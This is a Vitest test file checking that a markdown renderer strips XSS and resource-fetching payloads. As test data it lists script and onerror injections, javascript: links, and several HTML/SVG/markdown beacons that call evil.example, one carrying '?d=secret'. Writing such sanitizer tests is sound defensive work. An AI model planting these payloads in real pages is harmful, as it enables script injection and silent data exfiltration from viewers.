// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '@/lib/markdown';

/** The rendered HTML as a document, to query what a browser would build from it. */
const dom = (html: string) => new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
/** Elements and attributes that make a browser fetch something as soon as they render. */
const FETCHING =
  'img, video, audio, source, track, picture, svg, math, iframe, object, embed, link, [src], [srcset], [poster], [background], [style]';

describe('renderMarkdown', () => {
  test('renders the summary format', () => {
    const html = renderMarkdown('**Title**\n- one\n- two');
    expect(html).toContain('<strong>Title</strong>');
    expect(html).toContain('<li>one</li>');
  });

  test.each([
    ['<script>alert(1)</script>', 'script'],
    ['<img src=x onerror=alert(1)>', 'img, [onerror]'],
    ['<a href="javascript:alert(1)">x</a>', 'a[href]'],
    ['[x](javascript:alert(1))', 'a[href]'],
    ['<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['<div style="position:fixed">x</div>', 'div, [style]'],
  ])('neutralises %s (no %s in the DOM; the text is shown as written)', (input, forbidden) => {
    const doc = dom(renderMarkdown(input));
    expect(doc.querySelectorAll(forbidden)).toHaveLength(0);
    expect(doc.body.textContent).not.toBe('');
  });

  // Each of these, rendered by the old sanitizer, made the panel fetch the URL.
  test.each([
    '<video poster="https://evil.example/beacon/poster?d=secret"></video>',
    '<audio src="https://evil.example/beacon/audio"></audio>',
    '<video><source src="https://evil.example/beacon/source"></video>',
    '<svg><image href="https://evil.example/beacon/svg-image"></image></svg>',
    '<svg><filter><feImage href="https://evil.example/beacon/feimage"/></filter></svg>',
    '<table background="https://evil.example/beacon/table"><tr><td>x</td></tr></table>',
    '<img srcset="https://evil.example/beacon/srcset 1x">',
    '<math><mi xlink:href="https://evil.example/beacon/math">x</mi></math>',
    '![chart](https://evil.example/beacon/markdown-image)',
    '| a |\n|---|\n| <img src="https://evil.example/beacon/cell"> |',
  ])('fetches nothing: %s', (payload) => {
    const doc = dom(renderMarkdown(`Before ${payload} after`));
    expect(doc.querySelectorAll(FETCHING)).toHaveLength(0);
    // The payload is still there to read (as text or a link), so nothing is silently dropped.
    expect(doc.body.textContent).toMatch(/Before[\s\S]*after/);
  });

  test('raw HTML is shown as written, not swallowed', () => {
    const doc = dom(renderMarkdown('<details><summary>More</summary>hidden</details> and the rest'));
    expect(doc.querySelector('details')).toBeNull();
    expect(doc.body.textContent).toContain('<details><summary>More</summary>hidden</details> and the rest');
    const summary = dom(renderMarkdown('<summaries title="Tides">\n- high tide at 6:40\n</summaries>'));
    expect(summary.body.textContent).toContain('<summaries title="Tides">');
    expect(summary.body.textContent).toContain('high tide at 6:40');
  });

  test('a markdown image becomes a link to it; only http(s) and mailto links survive', () => {
    const doc = dom(
      renderMarkdown('![the chart](https://example.com/chart.png) [mail](mailto:a@b.c) [rel](page.html)'),
    );
    const links = [...doc.querySelectorAll('a')];
    expect(links.map((a) => [a.textContent, a.getAttribute('href')])).toEqual([
      ['the chart', 'https://example.com/chart.png'],
      ['mail', 'mailto:a@b.c'],
      ['rel', null],
    ]);
  });

  test('links open in a new tab without an opener, SVG-spelled ones too', () => {
    for (const html of [
      renderMarkdown('[site](https://example.com)'),
      renderMarkdown('<svg><a href="https://example.com">x</a></svg>'),
    ]) {
      for (const link of dom(html).querySelectorAll('a[href]')) {
        expect(link.getAttribute('target')).toBe('_blank');
        expect(link.getAttribute('rel')).toBe('noopener noreferrer');
      }
    }
  });
});
